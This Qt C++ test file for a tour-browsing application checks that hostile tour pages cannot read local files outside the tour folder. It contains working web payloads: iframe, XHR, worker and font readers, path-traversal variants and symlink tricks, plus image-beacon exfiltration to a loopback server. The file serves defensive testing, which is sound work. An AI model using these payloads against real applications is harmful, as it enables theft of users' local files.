#include "model/TourModel.h"
#include "platform/BrowserView.h"
#include "platform/Strings.h"
#include "ui/main/frmMain.h"
#include "ui/support/LoopbackServer.h"
#include "ui/support/SiteEditor.h"
#include "ui/support/UiFixture.h"

#include <QApplication>
#include <QBuffer>
#include <QDesktopServices>
#include <QDialog>
#include <QDir>
#include <QFile>
#include <QImage>
#include <QLineEdit>
#include <QPointer>
#include <QSet>
#include <QTest>
#include <QTimer>
#include <QWebEngineDownloadRequest>
#include <QWebEnginePage>
#include <QWebEngineProfile>
#include <QWebEngineView>
#include <filesystem>

namespace wendmark {

using test::LoopbackServer;
using test::SiteEditor;
using test::UiFixture;
using test::waitUntil;

namespace {

constexpr int loadPatience = 20000; // Milliseconds, as all that follow.
constexpr int attackTime = 6000;    // The longest time that a page gets to say that it has done its worst.
constexpr int departure = 1000;     // The time of a page that leaves, and so cannot say it.
constexpr int aftermath = 200;      // What was asked for last may come a little later.

// What no page may carry out. Pages know the words before the number only in pieces, so that they do not find
// themselves.
const QByteArray secret = "vault-4711";

/// What hostile pages have in common. They tell the server of their success, or that they are at their end.
constexpr const char* weapons = R"js(
var server = '{server}', inside = '{in}', outside = '{out}';
function send(path) { new Image().src = server + path; }
function whole(address) { return new URL(address, location.href).href; }
function won(how) { send('/success?how=' + encodeURIComponent(how)); }
function look(text) {
  var found = new RegExp('vau' + 'lt-[0-9]+').exec(String(text));
  if (found) send('/success?text=' + found[0]);
}
function attempt(act) {
  try {
    var promise = act();
    if (promise && promise.catch) promise.catch(function () {});
  } catch (error) {}
}
function lookIntoFrames() {
  for (var i = 0; i < frames.length; ++i)
    attempt(function () { look(frames[i].document.documentElement.textContent); });
}
addEventListener('load', function () {
  setTimeout(lookIntoFrames, 100);
  setTimeout(function () { lookIntoFrames(); send('/done'); }, 400);
});
)js";

/// Ways to read a file at the address {target}, with the ending of the file that they need.
struct Reader {
    const char* name;
    const char* ending;
    const char* html;
    bool leaves; ///< The page gives way to the file.
    bool works;  ///< With a file of the tour. The engine refuses the other ways even there.
};

constexpr Reader readers[] = {
    {"frame", "txt", "<iframe src='{target}'></iframe>", false, true},
    {"frame with a script", "htm", "<iframe src='{target}'></iframe>", false, true},
    {"object", "htm", "<object data='{target}' type='text/html'></object>", false, true},
    {"embed", "htm", "<embed src='{target}' type='text/html'>", false, true},
    {"image", "png", "<img src='{target}' onload='won(\"image\")'>", false, true},
    {"image button", "png", "<input type=image src='{target}' onload='won(\"image\")'>", false, true},
    {"drawing in a drawing", "png",
     "<svg><image href='{target}' onload='won(\"image\")' width=9 height=9 /></svg>", false, true},
    {"script", "js", "<script src='{target}' onload='won(\"script\")'></script>", false, true},
    {"module", "js", "<script type=module src='{target}' onload='won(\"module\")'></script>", false, true},
    {"style sheet", "css", "<link rel=stylesheet href='{target}' onload='won(\"style\")'>", false, true},
    {"imported style sheet", "css",
     "<style>@import url('{target}');</style><script>addEventListener('load', function () {"
     " look(getComputedStyle(document.documentElement).getPropertyValue('--stolen')); });</script>",
     false, true},
    {"sound", "wav", "<audio preload=auto src='{target}' onloadedmetadata='won(\"sound\")'></audio>", false,
     true},
    {"captions", "vtt",
     "<video><track default src='{target}' onload='won(\"captions\")'></video><script>"
     "document.querySelector('track').track.mode = 'showing';</script>",
     false, true},
    {"font", "ttf",
     "<script>attempt(function () { return new FontFace('f', 'url({target})').load()"
     ".then(function () { won('font'); }); });</script>",
     false, true},
    {"request", "txt",
     "<script>attempt(function () { var r = new XMLHttpRequest(); r.open('GET', '{target}');"
     " r.onload = function () { look(r.responseText); }; r.send(); });</script>",
     false, true},
    {"waiting request", "txt",
     "<script>attempt(function () { var r = new XMLHttpRequest(); r.open('GET', '{target}', false);"
     " r.send(); look(r.responseText); });</script>",
     false, true},
    {"fetch", "txt",
     "<script>attempt(function () { return fetch('{target}').then(function (r) { return r.text(); })"
     ".then(look); });</script>",
     false, false},
    {"worker", "js",
     "<script>attempt(function () { var w = new Worker('{target}'); w.onmessage = function (e) {"
     " look(e.data); }; });</script>",
     false, true},
    {"worker's import", "js",
     "<script>attempt(function () { var w = new Worker(URL.createObjectURL(new Blob(["
     "\"try { importScripts('\" + whole('{target}') + \"'); postMessage(stolen); } catch (e) {}\"])));"
     " w.onmessage = function (e) { look(e.data); }; });</script>",
     false, true},
    {"worker's request", "txt",
     "<script>attempt(function () { var w = new Worker(URL.createObjectURL(new Blob(["
     "\"var r = new XMLHttpRequest(); r.open('GET', '\" + whole('{target}') + \"', false); r.send();"
     " postMessage(r.responseText);\"])));"
     " w.onmessage = function (e) { look(e.data); }; });</script>",
     false, true},
    {"shared worker", "js",
     "<script>attempt(function () { var w = new SharedWorker('{target}');"
     " w.port.onmessage = function (e) { look(e.data); }; w.port.start(); });</script>",
     false, false},
    {"shared worker's request", "txt",
     "<script>attempt(function () { var w = new SharedWorker(URL.createObjectURL(new Blob(["
     "\"onconnect = function (c) { var r = new XMLHttpRequest(); r.open('GET', '\" + whole('{target}') + "
     "\"', false); r.send();"
     " c.ports[0].postMessage(r.responseText); };\"])));"
     " w.port.onmessage = function (e) { look(e.data); }; w.port.start(); });</script>",
     false, false},
    {"loading ahead", "txt", "<link rel=preload as=fetch crossorigin href='{target}' onload='won(\"link\")'>",
     false, false},
    {"refresh", "htm", "<meta http-equiv=refresh content='0; url={target}'>", true, true},
    {"going there", "htm", "<script>location.href = '{target}';</script>", true, true},
    {"form", "htm", "<form action='{target}'></form><script>document.forms[0].submit();</script>", true,
     true},
};

/// Addresses of files that are not the tour's; the ending of the file is added.
struct Way {
    const char* name;
    const char* address;
};

constexpr Way waysOut[] = {
    {"beside the working copy", "../secret."},
    {"in another folder", "../Private/secret."},
    {"in a folder whose name begins alike", "../NewTour2/secret."},
    {"by its whole address", "{out}secret."},
    {"by its whole address through the working copy", "{in}../secret."},
    {"by a single slash", "file:{outpath}secret."},
    {"on this machine by name", "file://localhost{outpath}secret."},
    {"with encoded dots", "%2e%2e/secret."},
    {"with half-encoded dots", ".%2E/secret."},
    {"with encoded slash", "..%2fsecret."},
    {"with backslash", "..\\secret."},
    {"through a folder that is not there", "nowhere/../../secret."},
    {"behind a link", "link."},
    {"behind a link to a folder", "linked/secret."},
    {"behind a link whose name is no text", "link%ff."},
    {"behind a link of the tour's folder", "own-link."},
};

// The readers that are sent all ways out, by their names; the others are sent one of them each.
const QSet<QString> thorough = {QStringLiteral("frame"), QStringLiteral("request"),
                                QStringLiteral("going there")};

QString fill(const QString& text, const QHash<QString, QString>& values) {
    QString filled = text;
    for (auto value = values.begin(); value != values.end(); ++value)
        filled.replace(QLatin1Char('{') + value.key() + QLatin1Char('}'), value.value());
    return filled;
}

QByteArray picture() {
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    QImage image(8, 8, QImage::Format_RGB32);
    image.fill(Qt::red);
    image.save(&buffer, "PNG");
    return bytes;
}

/// A tenth of a second of silence.
QByteArray sound() {
    const QByteArray samples(800, '\x80');
    QByteArray bytes = "RIFF";
    const auto number = [&](quint32 value, int size) {
        for (int i = 0; i < size; ++i)
            bytes.append(static_cast<char>(value >> (8 * i)));
    };
    number(static_cast<quint32>(36 + samples.size()), 4);
    bytes += "WAVEfmt ";
    for (const auto& [value, size] :
         {std::pair<quint32, int>{16, 4}, {1, 2}, {1, 2}, {8000, 4}, {8000, 4}, {1, 2}, {8, 2}})
        number(value, size);
    bytes += "data";
    number(static_cast<quint32>(samples.size()), 4);
    return bytes + samples;
}

/// A font of this machine; empty when it has none.
QByteArray font() {
    for (const char* folder : {"/usr/share/fonts/truetype/dejavu", "/usr/share/fonts/truetype"}) {
        const QDir dir(QString::fromLatin1(folder));
        for (const QString& name : dir.entryList({QStringLiteral("*.ttf")}, QDir::Files)) {
            QFile file(dir.filePath(name));
            if (file.open(QIODevice::ReadOnly))
                return file.readAll();
        }
    }
    return {};
}

/// Opens what a program of this desktop would open, and only writes it down.
class Programs final : public QObject {
    Q_OBJECT

public:
    Programs() {
        for (const QString& scheme : schemes())
            QDesktopServices::setUrlHandler(scheme, this, "open");
    }
    ~Programs() override {
        for (const QString& scheme : schemes())
            QDesktopServices::unsetUrlHandler(scheme);
    }

    QStringList opened;

public slots:
    void open(const QUrl& address) { opened.append(address.toString()); }

private:
    static QStringList schemes() {
        return {"http", "https", "file", "ftp",    "mailto",     "tel",  "qrc",
                "qt",   "data",  "blob", "chrome", "javascript", "evil", "view-source"};
    }
};

/// Sees what a page must not bring about, and says what that was.
class Watch final {
public:
    explicit Watch(LoopbackServer& server) : m_server(server), m_windows(shownWindows()) {
        m_timer.callOnTimeout([this] { lookForWindows(); });
        m_timer.start(10);
    }

    /// Sees where this browser goes from now on.
    void follow(BrowserView& browser, const QString& allowedFolder, bool toldOfFolder) {
        QObject::connect(browser.engineView().page(), &QWebEnginePage::urlChanged, &m_timer,
                         [=, this](const QUrl& address) {
                             static const QStringList usual = {"file", "http", "about", "data", "blob", ""};
                             if (!usual.contains(address.scheme()))
                                 m_seen.append("shows " + address.toString());
                             if (toldOfFolder && address.isLocalFile() &&
                                 !address.toLocalFile().startsWith(allowedFolder))
                                 m_seen.append("shows " + address.toString());
                         });
    }

    void followDownloads(QWebEngineProfile& profile) {
        QObject::connect(&profile, &QWebEngineProfile::downloadRequested, &m_timer,
                         [this](QWebEngineDownloadRequest* download) {
                             const auto state = download->state();
                             if (state != QWebEngineDownloadRequest::DownloadCancelled)
                                 m_seen.append("downloads " + download->url().toString());
                         });
    }

    void note(const QString& what) { m_seen.append(what); }

    QStringList successes() const {
        QStringList all = m_seen;
        for (const LoopbackServer::Request& request : m_server.requests()) {
            const bool carriesSecret = request.path.toUtf8().contains(secret);
            if (request.path.startsWith("/success") || carriesSecret)
                all.append("the server hears " + request.path);
        }
        for (const QString& address : m_programs.opened)
            all.append("a program gets " + address);
        all.removeDuplicates();
        return all;
    }

    bool heard(const QString& path) const { return m_server.requestsFor(path) > 0; }

    /// The time of a page that works until it says that it is done, or until it must be.
    void letAttack(bool leaves) const {
        if (leaves)
            QTest::qWait(departure);
        else
            static_cast<void>(waitUntil([&] { return heard("/done"); }, attackTime));
        QTest::qWait(aftermath);
    }

private:
    static QList<QWidget*> shownWindows() {
        QList<QWidget*> shown;
        for (QWidget* window : QApplication::topLevelWidgets()) {
            if (window->isVisible())
                shown.append(window);
        }
        return shown;
    }

    void lookForWindows() {
        for (QWidget* window : shownWindows()) {
            if (m_windows.contains(window))
                continue;
            m_seen.append(QStringLiteral("a window: %1 \"%2\"")
                              .arg(QLatin1String(window->metaObject()->className()), window->windowTitle()));
            window->close(); // A dialog would hold the test up.
        }
    }

    LoopbackServer& m_server;
    QList<QWidget*> m_windows;
    QStringList m_seen;
    Programs m_programs;
    QTimer m_timer;
};

/// Where a tour has its hostile page.
enum class Place { siteFrame, narration, logo };

/// The program with a hostile tour of three stops open in the main window, and secrets around it.
class HostileTour final {
public:
    HostileTour() : window(program.parts()) {
        writeVaults();
        // What a page that only wants to be asked gets from the server.
        server.answer("/attachment.htm", {200,
                                          {{"Content-Type", "text/html"},
                                           {"Content-Disposition", "attachment; filename=evil.sh"}},
                                          "evil"});
    }

    QHash<QString, QString> values() const {
        const QString out = program.path("");
        return {{"server", server.address("")},
                {"in", QUrl::fromLocalFile(program.working("")).toString(QUrl::FullyEncoded)},
                {"out", QUrl::fromLocalFile(out).toString(QUrl::FullyEncoded)},
                {"outpath", out}};
    }

    /// Writes the tour into MyTours and opens it, and goes to its first stop.
    void open(Place place, const QString& html) {
        const QString page = fill(html, values());
        const QString siteAddress =
            place == Place::siteFrame ? QStringLiteral("attack.htm") : QStringLiteral("quiet.htm");
        const QString narration = place == Place::narration ? "<script src='weapons.js'></script>" + page
                                                            : QStringLiteral("Words.");
        openWith(siteAddress, narration, page, place == Place::logo);
    }

    /// The same with this address at the first stop.
    void openAt(const QString& stopAddress) {
        openWith(fill(stopAddress, values()), QStringLiteral("Words."), {}, false);
    }

    BrowserView& browser() const { return *window.findChild<BrowserView*>("broMain"); }

private:
    void openWith(const QString& siteAddress, const QString& narration, const QString& page, bool inLogo) {
        const QByteArray document =
            ("<title>Stop</title><script src='weapons.js'></script><body>" + page).toUtf8();
        tourFile("attack.htm", document);
        tourFile("quiet.htm", "<p>quiet</p>");
        if (inLogo)
            tourFile("tourlogo.htm", document);
        tourFile("weapons.js", fill(QString::fromLatin1(weapons), values()).toUtf8());
        QByteArray script = "<<<VoskInfo>>>#BufferDelay = 30\r\n\r\nHostile tour\r\n\r\n";
        for (int n = 1; n <= 3; ++n) {
            const QString stop = QString::number(n);
            script += ("<<<VoskInfo>>> Stop" + stop + "\r\nStop " + stop + "\r\n" +
                       (n == 1 ? siteAddress : QStringLiteral("newpage.htm")) + "\r\n\r\n" +
                       (n == 1 ? narration : QStringLiteral("Words.")) + "\r\n\r\n<!--instruction-->\r\n\r\n")
                          .toUtf8();
        }
        tourFile("script.txt", script);
        const QString folder = program.path("MyTours/hostile");
        for (const QString& ending : vaultEndings())
            QVERIFY(QFile::link(program.path("secret.") + ending, folder + "/own-link." + ending));

        program.profile->setDownloadPath(program.path("Downloads"));
        window.load(folder);
        window.show();
        writeLinks();
        if (!inLogo)
            window.runToolBarCommand("Next");
    }

    void tourFile(const QString& name, const QByteArray& bytes) const {
        test::writeFile(toUtf8(program.path("MyTours/hostile/" + name)), bytes.toStdString());
    }

    static QStringList vaultEndings() { return {"txt", "htm", "js", "css", "png", "wav", "vtt", "ttf"}; }

    QByteArray vault(const QString& ending) const {
        if (ending == "htm")
            return fill("<p>" + secret +
                            "</p><script>new Image().src = '{server}/success?ran=' + "
                            "encodeURIComponent(location.href);</script>",
                        values())
                .toUtf8();
        if (ending == "js")
            return "var stolen = '" + secret +
                   "'; self.onconnect = function (c) { c.ports[0].postMessage(stolen); };"
                   "if (self.postMessage && !self.document) self.postMessage(stolen);";
        if (ending == "css")
            return ":root { --stolen: '" + secret + "'; }";
        if (ending == "png")
            return picture();
        if (ending == "wav")
            return sound();
        if (ending == "vtt")
            return "WEBVTT\n\n00:00.000 --> 00:09.000\n" + secret + "\n";
        if (ending == "ttf")
            return font();
        return secret;
    }

    void writeVaults() const {
        for (const QString& ending : vaultEndings()) {
            for (const char* folder : {"", "Private/", "NewTour2/", "MyTours/hostile/"})
                test::writeFile(toUtf8(program.path(QLatin1String(folder) + "secret." + ending)),
                                vault(ending).toStdString());
        }
    }

    /// The program itself makes no links in the working copy; others may.
    void writeLinks() const {
        QVERIFY(QFile::link(program.path("Private"), program.working("linked")));
        for (const QString& ending : vaultEndings()) {
            const QString target = program.path("secret.") + ending;
            QVERIFY(QFile::link(target, program.working("link." + ending)));
            std::error_code failure;
            std::filesystem::create_symlink(
                toUtf8(target), toUtf8(program.working("link")) + "\xff." + toUtf8(ending), failure);
            QVERIFY(!failure);
        }
    }

public:
    UiFixture program;
    LoopbackServer server;
    frmMain window;
};

} // namespace

/// Tours and pages that mean ill. Each case is one of them; none may have its way, except for those that only
/// show that it would have been seen.
class HostileToursTest final : public QObject {
    Q_OBJECT

private slots:
    void cleanupTestCase() const {
        qInfo("%d hostile tours and pages, %d successes; %d of %d controls seen", m_cases, m_successes,
              m_controlsSeen, m_controls);
        QVERIFY(m_cases >= 60);
        QVERIFY(m_controls >= 20);
        QCOMPARE(m_successes, 0);
        QCOMPARE(m_controlsSeen, m_controls);
    }

    void tourReadsNoFileButItsOwn_data() {
        QTest::addColumn<QString>("html");
        QTest::addColumn<int>("place");
        QTest::addColumn<bool>("leaves");
        QTest::addColumn<bool>("control");
        int turn = 0;
        for (const Reader& reader : readers) {
            const QString name = QLatin1String(reader.name);
            const auto add = [&](const QString& where, const QString& address, bool control) {
                const auto place = static_cast<int>(turn % 3 == 0 ? Place::narration : Place::siteFrame);
                const QString target = address + QLatin1String(reader.ending);
                QTest::addRow("%s, %s", reader.name, qPrintable(where))
                    << QString::fromLatin1(reader.html).replace("{target}", target) << place << reader.leaves
                    << control;
            };
            if (reader.works)
                add("of the tour", "secret.", true);
            const auto count = static_cast<int>(std::size(waysOut));
            const int ways = thorough.contains(name) ? count : 1;
            for (int i = 0; i < ways; ++i) {
                const Way& way = waysOut[ways == 1 ? turn % count : i];
                add(QLatin1String(way.name), QLatin1String(way.address), false);
            }
            ++turn;
        }
    }

    void tourReadsNoFileButItsOwn() {
        QFETCH(QString, html);
        QFETCH(int, place);
        QFETCH(bool, leaves);
        QFETCH(bool, control);
        HostileTour tour;
        judgeTour(tour, static_cast<Place>(place), html, leaves, control);
    }

private:
    void judgeTour(HostileTour& tour, Place place, const QString& html, bool leaves, bool control) {
        tour.window.show();
        Watch watch(tour.server);
        watch.follow(tour.browser(), tour.program.path("NewTour/"), true);
        watch.followDownloads(*tour.program.profile);
        tour.open(place, html);
        watch.letAttack(leaves);
        judge(watch, control);
    }

    void judge(const Watch& watch, bool control) {
        const QStringList successes = watch.successes();
        if (control) {
            ++m_controls;
            m_controlsSeen += successes.isEmpty() ? 0 : 1;
            QVERIFY2(!successes.isEmpty(), "what this page does is not seen");
        } else {
            ++m_cases;
            m_successes += successes.isEmpty() ? 0 : 1;
            QVERIFY2(successes.isEmpty(), qPrintable(successes.join("; ")));
        }
    }

    int m_cases = 0;
    int m_successes = 0;
    int m_controls = 0;
    int m_controlsSeen = 0;
};

} // namespace wendmark

int main(int argc, char* argv[]) {
    QApplication application(argc, argv);
    wendmark::HostileToursTest tests;
    return QTest::qExec(&tests, argc, argv);
}

#include "HostileToursTest.moc"
